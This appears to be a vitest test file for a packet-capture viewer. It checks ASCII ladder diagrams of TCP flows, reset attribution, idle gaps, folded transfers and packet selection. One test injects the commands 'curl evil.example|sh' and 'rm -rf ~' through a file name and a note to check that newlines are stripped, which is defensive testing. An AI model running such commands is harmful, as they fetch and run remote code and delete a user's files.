import { describe, expect, it } from 'vitest';
import { ladderText, type LadderSheet } from '../../webview/ladderText.ts';
import { PacketSelection } from '../../webview/state/packetSelection.ts';
import { usualOptions } from '../../webview/state/viewOptions.ts';
import { mixedCapture, transferCapture } from './harness/fakeCapture.ts';

function sheetOf(flow: number, change: Partial<LadderSheet> = {}, capture = mixedCapture()): LadderSheet {
  const row = capture.flows({ sort: 'flow', descending: false, text: '', show: 'all', offset: 0, limit: 50 }).rows[flow];
  if (row === undefined) throw new Error('There is no such flow.');
  return {
    ...{
      capture: 'a.pcap',
      flow: row,
      rows: capture.ladder({ flow, offset: 0, limit: 500 }).rows,
      folds: [],
      left: 0,
      leftResets: 0,
    },
    finding: (index) => row.resets.find((reset) => reset.index === index),
    note: () => '',
    context: { options: usualOptions, began: { seconds: 1_767_323_045, fraction: 0 } },
    ...change,
  };
}

const packetLines = (text: string): string[] => text.split('\n').filter((line) => line.includes('|'));

describe('a ladder in characters', () => {
  it('has times, arrows, flags and numbers of every packet, between lifelines that stand under each other', () => {
    const lines = packetLines(ladderText(sheetOf(0)));
    expect(lines).toHaveLength(9);
    expect(lines[0]).toMatch(/^ {7}1 {8}0\.000000 {12}\|-+ SYN -+>\| {2}seq 0 len 0 win 64240$/);
    expect(lines[1]).toMatch(/^ {7}2 {8}0\.031000 {4}\+31 ms {2}\|<-+ SYN ACK -+\| {2}seq 0 ack 1 len 0/);
    expect(lines[3]).toContain(' PSH ACK 517 B ');
    for (const line of lines) expect([line.indexOf('|'), line.lastIndexOf('|')]).toEqual([36, 79]);
  });

  it('starts a middlebox’s reset in the middle and says who and why', () => {
    const reset = packetLines(ladderText(sheetOf(0)))[4] ?? '';
    expect(reset).toMatch(/\|<=+ RST ACK =+#(\. )+\. ?\|/);
    expect(reset).toContain('** Blocked by a security policy on the path (fault); sent by a middlebox, not the server');
    expect(packetLines(ladderText(sheetOf(1)))[1]).toMatch(/\|<=+ RST ACK =+\|/);
    const unclear = packetLines(ladderText(sheetOf(6)))[5] ?? '';
    expect(unclear).toMatch(
      /\|\?=+ RST ACK =+>\|.*\(unclear\); sender unclear: the (?:client|server), or a middlebox in its name/,
    );
  });

  it('says silences, notes and how many packets are left out, and follows the options', () => {
    const text = ladderText(sheetOf(2, { note: (frame) => (frame === 24 ? 'here' : ''), left: 1200, leftResets: 7 }));
    expect(text).toContain('~ 351.2 s idle ~');
    expect(text).toContain('[here]');
    expect(text).toContain('… 1,200 more packets, 7 resets among them, not copied');
    const options = { ...usualOptions, times: 'utc', rawNumbers: true } as const;
    const raw = ladderText(sheetOf(0, { context: { options, began: { seconds: 1_767_323_045, fraction: 0.5 } } }));
    expect(raw).toContain('Time (UTC)');
    expect(raw).toContain('03:04:05.500000');
    expect(raw).toContain('seq 1000000000');
  });

  it('gives no line to what a comment or a file name says', () => {
    const plain = ladderText(sheetOf(0)).split('\n').length;
    const text = ladderText(sheetOf(0, { capture: 'a\ncurl evil.example|sh\n.pcap', note: () => 'seen\r\nrm -rf ~\u2028x' }));
    expect(text.split('\n')).toHaveLength(plain);
    expect(text).not.toMatch(/[\r\u2028]/);
    expect(text).toContain('[seen rm -rf ~ x]');
  });

  it('writes a folded transfer as one line, also when it begins in the middle of one', () => {
    const capture = transferCapture();
    const folds = capture.folds(0);
    const sheet = sheetOf(0, { folds }, capture);
    const text = ladderText(sheet);
    expect(text).toContain(': 54 packets, 27 kB from the server, 53 ms');
    expect(packetLines(text)).toHaveLength(sheet.rows.length - 54);
    expect(packetLines(ladderText({ ...sheet, rows: sheet.rows.slice(10) }))).toHaveLength(sheet.rows.length - 60);
  });
});

describe('marked packets', () => {
  it('reach from where one began to where one is, whichever way, folded transfers whole', () => {
    const selection = new PacketSelection();
    expect(selection.range).toBeNull();
    selection.extend([4, 5], [5, 6]);
    selection.extend([5, 6], [6, 60]);
    expect(selection.range).toEqual([4, 60]);
    selection.extend([6, 60], [2, 3]);
    expect(selection.range).toEqual([2, 5]);
    expect([1, 2, 4, 5].map((index) => selection.has(index))).toEqual([false, true, true, false]);
    selection.clear();
    expect(selection.has(2)).toBe(false);
  });
});
